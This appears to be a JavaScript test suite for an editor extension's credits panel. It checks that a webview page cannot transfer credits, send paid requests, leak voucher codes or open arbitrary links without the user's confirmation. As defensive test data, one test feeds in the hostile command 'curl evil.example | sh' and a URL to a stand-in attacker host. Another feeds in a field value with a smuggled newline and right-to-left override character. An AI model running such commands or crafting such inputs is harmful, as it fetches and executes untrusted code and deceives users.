// What a page of the panel can make the extension do, and how the extension reports results.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { Uri } from "./support/fake-editor.mjs";
import { Stage } from "./support/stage.mjs";
import { until } from "./support/until.mjs";

const GIVE = "/quota/transfer-out";
const CHAT = "/chat/completions";

describe("a page and the editor around it", () => {
  const stage = new Stage();
  const signedIn = async (settings) => {
    const editor = await stage.editor(settings);
    const { token } = await stage.account();
    await editor.signIn(token);
    await stage.statusShows(editor, "41.5");
    return { editor, page: await stage.page(editor), token };
  };
  const sectionOf = (page, kind) =>
    page
      .views()
      .at(-1)
      .sections.find((section) => section.kind === kind);
  const giveLine = (page) => until("what can be given", () => sectionOf(page, "voucher")?.give.lines[0]);
  const modal = (editor) => until("the dialog", () => editor.messages.find((said) => said.modal));

  describe("giving credits away", () => {
    it("is asked about by the editor with receiver and amount, and nothing is sent without the user's word", async () => {
      const { editor, page } = await signedIn();
      const receiverId = await stage.ledger.account();
      const { expiresAt } = await giveLine(page);
      page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: "2" }] });
      const { detail, actions } = await modal(editor);
      assert.ok(detail.includes(receiverId));
      assert.match(detail, /Credits: 2\b/);
      assert.equal(actions.length, 1);
      await editor.command("refresh");
      assert.deepEqual(stage.sentTo(GIVE), []);
    });

    it("shows the code in the editor, and never in a message to the page", async () => {
      const { editor, page } = await signedIn();
      const receiverId = await stage.ledger.account();
      const { expiresAt } = await giveLine(page);
      editor.user.message = ({ actions }) => actions[0];
      page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: "2" }] });
      const code = await until("the code", () => editor.copied);
      assert.match(code, /^[\x21-\x7e]{20,}$/);
      await until("the result on the page", () => sectionOf(page, "voucher").give.result);
      assert.ok(!JSON.stringify(page.posted).includes(code));
      assert.ok(!JSON.stringify(editor.log).includes(code));
      page.send({ type: "act", id: "copy", value: code });
    });

    it("is not asked about while a field is wrong, whatever a page writes into it", async () => {
      const { editor, page } = await signedIn();
      const { expiresAt } = await giveLine(page);
      const receiverId = await stage.ledger.account();
      for (const [receiver, amount] of [
        [`a\nAmount: 0\u202e${"x".repeat(5_000)}`, "2"],
        [receiverId, "9000"],
        [receiverId, ""],
      ]) {
        page.posted.length = 0;
        page.send({ type: "voucher_give", receiverId: receiver, lines: [{ expiresAt, amount }] });
        const { review } = await until("the review", () => page.posted.find(({ type }) => type === "transfer_review"));
        assert.equal(review.errors.length, 1);
        assert.equal(review.confirmation, undefined);
      }
      // Another page's answer is none to a dialog of the editor.
      page.send({ type: "voucher_confirm", isConfirmed: true });
      await editor.command("refresh");
      assert.ok(!editor.messages.some((message) => message.modal));
      assert.deepEqual(stage.sentTo(GIVE), []);
    });

    it("is one dialog, however often a page asks", async () => {
      const { editor, page } = await signedIn();
      const receiverId = await stage.ledger.account();
      const { expiresAt } = await giveLine(page);
      let answer;
      editor.user.message = () => new Promise((resolve) => (answer = resolve));
      for (let time = 0; time < 5; time += 1) {
        page.send({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: "2" }] });
        page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
      }
      await until("the dialog", () => answer);
      await editor.command("refresh");
      assert.equal(editor.messages.filter((said) => said.modal).length, 1);
      answer(undefined);
    });
  });

  it("a request that costs credits is asked about, and not sent without the user's word", async () => {
    const { editor, page } = await signedIn();
    page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
    const { actions, text } = await modal(editor);
    assert.ok(text.length > 0 && actions.length === 1);
    await editor.command("refresh");
    assert.deepEqual(stage.sentTo(CHAT), []);
    editor.user.message = (asked) => asked.actions[0];
    page.send({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
    await until("the request", () => (stage.sentTo(CHAT).length === 1 ? true : undefined));
    await until("the page to hear of it", () => page.posted.find(({ type }) => type === "sent"));
  });

  it("opens and copies only what the panel offers", async () => {
    const { editor, page } = await signedIn();
    page.send({ type: "open", href: "https://evil.example/?credits=41.5" });
    page.send({ type: "act", id: "copy", value: "curl evil.example | sh" });
    page.send({ type: "act", id: "refresh" });
    await editor.command("refresh");
    assert.deepEqual(editor.opened, []);
    assert.equal(editor.copied, undefined);
  });

  it("shows a voucher of the record by the editor, and gives the page no code", async () => {
    const { editor, page } = await signedIn();
    const answers = ["2", await stage.ledger.account()];
    editor.user.pick = ([first]) => first;
    editor.user.input = () => answers.shift();
    editor.user.message = ({ modal, actions }) => (modal ? actions[0] : undefined);
    await editor.command("giveVoucher");
    const code = await until("the code", () => editor.copied);
    page.send({ type: "shown", section: "records" });
    const row = await until("the record", () => {
      const records = page
        .views()
        .at(-1)
        .sections.find(({ kind }) => kind === "records");
      return records.rows.find(({ voucher }) => voucher !== undefined);
    });
    assert.deepEqual(Object.keys(row.voucher), ["show"]);
    assert.ok(!JSON.stringify(page.posted).includes(code));
    editor.copied = undefined;
    page.send({ type: "act", id: "show_voucher", value: row.voucher.show.value });
    await until("the code again", () => (editor.copied === code ? true : undefined));
    assert.ok(!JSON.stringify(page.posted).includes(code));
  });

  it("offers a code that was refused to be mended", async () => {
    const { editor } = await signedIn();
    const boxes = [];
    editor.user.input = (options) => {
      boxes.push(options.value);
      return boxes.length === 1 ? "this-is-no-voucher" : undefined;
    };
    editor.user.message = ({ actions }) => actions[0];
    await editor.command("redeemVoucher");
    assert.deepEqual(boxes, ["", "this-is-no-voucher"]);
    const { kind, text } = await stage.message(editor, /Voucher not redeemed/);
    assert.equal(kind, "error");
    assert.doesNotMatch(text, /Invalid voucher|transfer/);
  });

  describe("a clipboard that refuses", () => {
    it("is said, and the code of a voucher stays in a box where it can be selected", async () => {
      const { editor } = await signedIn();
      const answers = ["2", await stage.ledger.account()];
      let box;
      editor.user.pick = ([first]) => first;
      editor.user.input = (options) => (answers.length > 0 ? answers.shift() : void (box = options));
      editor.user.message = ({ actions }) => actions[0];
      editor.failing.set("clipboard", new Error("no clipboard"));
      await editor.command("giveVoucher");
      assert.match(box.value, /^[\x21-\x7e]{20,}$/);
      assert.deepEqual(box.valueSelection, [0, box.value.length]);
      assert.equal((await stage.message(editor, /Could not copy the code/)).kind, "warning");
      assert.ok(!editor.messages.some(({ text }) => /^Copied/.test(text)));
      assert.ok(!JSON.stringify([editor.messages, editor.log]).includes(box.value));
    });

    it("a code that was not copied is offered once more", async () => {
      const { editor } = await signedIn();
      const answers = ["2", await stage.ledger.account()];
      editor.user.pick = ([first]) => first;
      editor.user.input = () => answers.shift();
      // The user agrees to give, closes the message with the code, and copies it at the second chance.
      editor.user.message = ({ modal, actions }) => (modal ? actions[0] : undefined);
      await editor.command("giveVoucher");
      await stage.message(editor, /not copied the voucher code/);
      assert.match(editor.copied, /^[\x21-\x7e]{20,}$/);
    });
  });

  describe("an export that is not complete", () => {
    const demo = async () => {
      const editor = await stage.editor();
      const id = await stage.ledger.demo();
      await editor.signIn(await stage.ledger.token(id));
      await until("a number", () => (/\d/.test(editor.item.text ?? "") ? true : undefined));
      return editor;
    };
    /** From this page on the server fails. */
    const failFrom = (page) => {
      stage.answer = (address) => {
        const found = /usage\/statistics|usage/.test(address) ? /[?&]page=(\d+)/.exec(address)?.[1] : undefined;
        return found !== undefined && Number(found) >= page ? new Response("{}", { status: 500 }) : undefined;
      };
    };
    const byCommand = async (editor) => {
      editor.user.pick = (items) => items.find(({ value }) => value === "usage.csv");
      await editor.command("exportHistory");
      return (pattern) => stage.message(editor, pattern);
    };
    /** The panel says it in its view, beside the button. */
    const byPanel = async (editor) => {
      const page = await stage.page(editor);
      page.send({ type: "act", id: "export", value: "usage.csv" });
      const line = () => sectionOf(page, "usage")?.exported;
      return (pattern) =>
        until(String(pattern), () => (pattern.test(`${line()?.title} ${line()?.text}`) ? line() : undefined));
    };
    for (const [name, begin] of [
      ["command", byCommand],
      ["panel", byPanel],
    ]) {
      it(`is said, also in the file's name (by ${name})`, async () => {
        const editor = await demo();
        failFrom(2);
        let suggested;
        editor.user.save = ({ defaultUri }) => ((suggested = String(defaultUri)), Uri.parse("memory:///export.csv"));
        await (await begin(editor))(/incomplete/);
        const file = await until("the file", () => editor.files.get("/export.csv"));
        assert.match(suggested, /-incomplete\.csv$/);
        assert.ok(file.length > 100);
      });

      it(`writes no file where nothing could be read (by ${name})`, async () => {
        const editor = await demo();
        failFrom(1);
        let asked = false;
        editor.user.save = () => void (asked = true);
        await (await begin(editor))(/no file|nothing/i);
        assert.equal(asked, false);
      });
    }
  });

  it("views are in the reader's zone and region, also when they change while the page is open", async () => {
    const editor = await stage.editor();
    const { token } = await stage.account();
    await editor.signIn(token);
    await stage.statusShows(editor, "41.5");
    const page = await stage.page(editor, { reader: { timeZone: "Asia/Shanghai", locale: "en-GB" } });
    const expiry = () => JSON.stringify(sectionOf(page, "settings")?.timeZone);
    await until("the zone", () => (/Shanghai|GMT\+8/.test(expiry()) ? true : undefined));
    assert.equal(page.views().at(-1).locale.split("-")[0], "en");
    page.send({ type: "reader", reader: { timeZone: "America/New_York", locale: "en-GB" } });
    await until("the other zone", () => (/New_York|New York|GMT-[45]/.test(expiry()) ? true : undefined));
    page.send({ type: "reader", reader: { timeZone: "Nowhere/At all" } });
    page.send({ type: "act", id: "mask", value: "on" });
    await until("a view in the host's zone", () => (page.views().at(-1).masked ? true : undefined));
  });

  it("the prompt is there again after the view was hidden and shown, and with another client", async () => {
    const { editor, page } = await signedIn();
    const estimate = () => sectionOf(page, "send")?.estimate;
    page.send({ type: "draft", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
    await until("an estimate", estimate);
    editor.configure({ baseUrl: `${stage.ledger.url}/api/v1` });
    page.posted.length = 0;
    await until("an estimate of the other client", () => (page.views().length > 0 ? estimate() : undefined));
    page.hide();
    page.posted.length = 0;
    page.show();
    page.ready({ draft: { text: "Explain burn-down.", model: "Kimi-K2-Moonshot" } });
    await until("an estimate after the return", () => (page.views().length > 0 ? estimate() : undefined));
  });

  it("a range, a search and a page of the record are there again after the view was hidden and shown", async () => {
    const { page } = await signedIn();
    page.send({ type: "usage_custom", from: "2026-06-02", to: "2026-06-05" });
    page.send({ type: "records_search", text: "gift" });
    const shown = () => {
      const [usage, records] = [sectionOf(page, "usage"), sectionOf(page, "records")];
      return usage?.custom.from.value === "2026-06-02" && records?.search.value === "gift" ? true : undefined;
    };
    await until("range and search", shown);
    page.hide();
    page.posted.length = 0;
    page.show();
    page.ready({});
    await until("range and search again", () => (page.views().length > 0 ? shown() : undefined));
  });

  it("a prompt that is too long is refused where it was written, once while it is", async () => {
    const { editor, page } = await signedIn();
    const text = "x".repeat(1_000_001);
    for (const more of ["", "y"]) page.send({ type: "draft", text: text + more, model: "Auto" });
    await stage.message(editor, /too long/);
    assert.deepEqual(
      page.posted.find(({ type }) => type === "refused"),
      { type: "refused", field: "text", of: "draft" },
    );
    assert.equal(editor.messages.length, 1);
  });
});
